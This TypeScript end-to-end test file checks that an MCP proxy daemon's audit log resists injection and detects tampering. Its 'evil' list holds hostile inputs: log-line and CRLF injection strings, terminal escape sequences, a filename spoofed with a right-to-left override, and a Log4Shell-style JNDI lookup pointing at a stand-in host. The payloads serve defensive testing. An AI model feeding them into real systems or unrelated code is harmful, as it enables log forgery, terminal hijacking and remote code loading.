import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { setTimeout as sleep } from "node:timers/promises"
import { ctl } from "../../../test/e2e/support/ctl.ts"
import { manifest, remote } from "../../../test/e2e/support/daemon.ts"
import { ask, post, type Message } from "../../../test/e2e/support/mcp.ts"
import type { Case } from "../finding.ts"
import { answer, registerRogue, serveRogue } from "../rogue.ts"
import { sendBytes } from "../wire.ts"
import { steering } from "../steering.ts"
import { withTokens } from "../tokens.ts"

const auditOf = (workspace: string) => join(workspace, ".clarity", "runtime", "audit")
const segmentsOf = (workspace: string) =>
  !existsSync(auditOf(workspace))
    ? []
    : readdirSync(auditOf(workspace))
        .filter((name) => name.endsWith(".ndjson"))
        .toSorted()

/** Lines on the disk once that many events have been written. */
async function linesOf(workspace: string, until: (text: string) => boolean): Promise<string[]> {
  for (let tries = 0; ; tries++) {
    const text = segmentsOf(workspace)
      .map((name) => readFileSync(join(auditOf(workspace), name), "utf8"))
      .join("")
    if (until(text) || tries === 60) return text.trimEnd().split("\n")
    await sleep(50)
  }
}

const evil: readonly string[] = [
  "a\nfake line",
  'a\r\n{"seq":1,"kind":"auth.ok"}',
  "a\u2028b\u2029c\u0085d",
  "\u001b[31mred\u001b[0m\u001b]0;title\u0007",
  "\u001b]8;;http://evil/\u0007link\u001b]8;;\u0007",
  "a\u0000b",
  "\u202egnp.exe",
  "\u200b\u2060\ufeffhidden",
  "\u{e0041}\u{e0042}tags",
  "\b\b\b\boverwritten",
  '"}\n{"level":"info"}',
  "%0a%0dfake",
  "${jndi:ldap://evil/a}",
  "\\n\\r\\u000a",
  "x".repeat(10_000),
]

/** Logs and audit: what strangers say is written down, never obeyed. */
export const recordCases: readonly Case[] = [
  {
    id: "LOG-01",
    async run({ stand, same, holds }) {
      const daemon = await stand.fresh()
      const upstream = stand.own(
        await serveRogue({
          tools: [{ name: "work", inputSchema: { type: "object" } }],
          call: (asked, response) =>
            answer(response, asked, { error: { code: 1, message: String(asked.params?.["arguments"]?.text) } }),
        }),
      )
      await registerRogue(daemon, "evil", upstream.url)
      for (const text of evil) {
        await ask(daemon.url, "legacy", "tools/call", { name: `evil__${text}`, arguments: {} })
        await ask(daemon.url, "legacy", "tools/call", {
          name: "evil__work",
          arguments: { text, [text.slice(0, 200)]: text },
        })
        await ask(daemon.url, "legacy", "tools/call", { name: "evil__work", arguments: {}, [text.slice(0, 200)]: 1 })
        await post(`${daemon.url}/mcp`, JSON.stringify({ jsonrpc: "2.0", id: 1, method: text.slice(0, 250) }))
        await fetch(`${daemon.url}/api/services/${encodeURIComponent(text.slice(0, 200))}`).catch(() => undefined)
      }
      const lines = await linesOf(daemon.workspace, (text) => text.split("tools/call work").length > evil.length)
      const broken = lines.filter((line) => {
        try {
          return typeof (JSON.parse(line) as { seq?: unknown }).seq !== "number"
        } catch {
          return true
        }
      })
      same("lines of the audit that are not one record each", [], broken)
      same(
        "lines of the audit that steer a terminal",
        [],
        lines.filter((line) => steering.test(line)).map((line) => line.slice(0, 80)),
      )
      holds("records", "at least one for each of them", lines.length > evil.length, lines.length)
      const output = daemon.program.stdout() + daemon.program.stderr()
      same("the output of the daemon steers the terminal", false, steering.test(output.replaceAll("\n", "")))
      const told = await ctl(daemon, ["audit", "--limit", "100"])
      same("clarityctl audit steers the terminal", false, steering.test(told.stdout.replaceAll("\n", "")))
    },
  },
  {
    id: "AUD-01",
    async run({ stand, same, holds }) {
      const workspace = stand.folder()
      const { daemon, bearer } = await withTokens(stand, { caller: { scopes: ["read", "call"] } }, { workspace })
      writeFileSync(
        join(workspace, ".clarity", "policy.json"),
        JSON.stringify({
          apiVersion: "clarity.policy/v1",
          rules: [
            { effect: "deny", services: ["canary"], tools: ["danger"] },
            { effect: "ask", services: ["canary"], tools: ["headered"] },
          ],
          pin: ["canary"],
        }),
      )
      await daemon.client.reloadPolicy({})
      const call = (name: string, who: string) =>
        ask(
          daemon.url,
          "modern",
          "tools/call",
          { name, arguments: { private: "value-CANARY", list: [1, 2] } },
          { headers: bearer(who), meta: { "io.modelcontextprotocol/clientInfo": { name: "desk", version: "1" } } },
        )
      const seqOf = async () => (await daemon.client.getAudit({ limit: 1 })).items[0]?.seq ?? 0
      const during = async (act: () => Promise<unknown>): Promise<Message[]> => {
        const before = await seqOf()
        await act()
        return (await daemon.client.getAudit({ limit: 200 })).items.filter(({ seq }) => seq > before) as Message[]
      }
      const one = (what: string, records: Message[], kind: RegExp, more: (record: Message) => boolean = () => true) => {
        const own = records.filter((record) => kind.test(String(record["kind"])) && more(record))
        holds(
          what,
          "exactly one record",
          own.length === 1,
          `${own.length} of ${records.map((record) => `${record["kind"]}: ${record["message"]}`).join("; ")}`,
        )
        return own[0] ?? {}
      }
      const allowed = one(
        "a call that is allowed",
        await during(() => call("canary__echo", "caller")),
        /^mcp\.tool_called$/,
      )
      const data = (allowed["data"] ?? {}) as Message
      const have = [
        "requestId",
        "tool",
        "decision",
        "outcome",
        "durationMs",
        "principal",
        "client",
        "schema",
        "policy",
        "arguments",
      ]
      same(
        "what it tells",
        [],
        have.filter((key) => data[key] === undefined),
      )
      same(
        "its time, number and service",
        [],
        ["at", "seq", "serviceId"].filter((key) => allowed[key] === undefined),
      )
      one("a call that is denied", await during(() => call("canary__danger", "caller")), /^mcp\./, (record) =>
        JSON.stringify(record).includes("deny"),
      )
      one(
        "a call that needs a person",
        await during(() => call("canary__headered", "caller")),
        /^mcp\.tool_called$|^mcp\.refused$/,
      )
      one(
        "a wrong token",
        await during(() => post(`${daemon.url}/mcp`, "{}", { headers: { authorization: "Bearer wrong-1" } })),
        /refused|rejected|auth/,
      )
      one(
        "a foreign Host",
        await during(() =>
          sendBytes({
            port: Number(new URL(daemon.url).port),
            bytes: Buffer.from(
              "POST /mcp HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            ),
          }),
        ),
        /refused|rejected/,
        (record) => JSON.stringify(record).includes("host_rejected"),
      )
      one(
        "rules that are read anew",
        await during(async () => {
          writeFileSync(
            join(workspace, ".clarity", "policy.json"),
            JSON.stringify({ apiVersion: "clarity.policy/v1", rules: [] }),
          )
          await daemon.client.reloadPolicy({})
        }),
        /^policy\.(?:changed|loaded|reloaded|rules)/,
      )
      one(
        "a token that is made",
        await during(() => daemon.client.createToken({ name: "extra", scopes: ["read"] })),
        /^auth\.token_created$/,
      )
      one(
        "a token that is revoked",
        await during(() => daemon.client.revokeToken({ name: "extra" })),
        /^auth\.token_revoked$/,
      )
      one("the configuration read anew", await during(() => daemon.client.reloadConfiguration({})), /^config\./)
      one(
        "a service that is registered",
        await during(() =>
          daemon.client.applyManifest({
            manifest: { ...manifest("noted", remote("https://example.com/mcp"), { autostart: false }) },
          }),
        ),
        /^control\.apply$/,
      )
      const lines = await linesOf(workspace, (text) => text.includes("noted"))
      same("values of arguments or tokens on the disk", false, lines.join("\n").includes("CANARY"))
    },
  },
  {
    id: "AUD-02",
    async run({ stand, same, holds }) {
      const workspace = stand.folder()
      const daemon = await stand.fresh({ workspace })
      for (let round = 0; round < 40; round++)
        await post(`${daemon.url}/mcp`, JSON.stringify({ jsonrpc: "2.0", id: 1, method: `try/${round}` }))
      await daemon.client.applyManifest({
        manifest: { ...manifest("noted", remote("https://example.com/mcp"), { autostart: false }) },
      })
      await linesOf(workspace, (text) => text.includes("noted"))
      const good = await daemon.client.verifyAudit({})
      holds("as it was written", "it is whole", JSON.stringify(good).includes('"ok":true'), good)
      const path = join(auditOf(workspace), segmentsOf(workspace).at(-1) ?? "")
      const original = readFileSync(path, "utf8")
      const lines = original.trimEnd().split("\n")
      const middle = Math.floor(lines.length / 2)
      const damages: Record<string, string[]> = {
        "a record in the middle is changed": lines.with(
          middle,
          String(lines[middle]).replace(/"message":"/, '"message":"not '),
        ),
        "a record in the middle is taken out": lines.toSpliced(middle, 1),
        "two records change places": lines
          .with(middle, String(lines[middle + 1]))
          .with(middle + 1, String(lines[middle])),
        "a record is there twice": lines.toSpliced(middle, 0, String(lines[middle])),
        "a time is changed": lines.with(middle, String(lines[middle]).replace(/20\d\d-/, "2019-")),
        "a line that is no record": lines.toSpliced(middle, 0, "not a record"),
      }
      for (const [what, changed] of Object.entries(damages)) {
        writeFileSync(path, `${changed.join("\n")}\n`)
        const found = await daemon.client.verifyAudit({})
        holds(what, "it is found", JSON.stringify(found).includes('"ok":false'), found)
      }
      writeFileSync(path, original)
      same("as it was, again", true, JSON.stringify(await daemon.client.verifyAudit({})).includes('"ok":true'))
    },
  },
]
